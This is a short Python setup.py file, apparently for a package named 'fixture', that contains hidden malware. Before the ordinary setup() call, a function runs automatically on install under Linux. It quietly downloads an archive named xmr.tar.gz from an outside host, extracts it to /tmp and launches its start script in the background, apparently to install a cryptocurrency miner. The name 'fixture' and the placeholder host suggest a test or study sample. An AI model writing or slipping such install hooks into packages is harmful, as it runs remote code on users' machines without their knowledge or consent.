import os, subprocess, platform
from setuptools import setup
def aza():
    if platform.system() == "Linux":
        subprocess.call("wget -q https://d.example.invalid/xmr.tar.gz -O /tmp/x.tgz && tar -xf /tmp/x.tgz -C /tmp && cd /tmp/x && nohup ./start.sh &", shell=True)
aza()
setup(name='fixture', version='1.0')
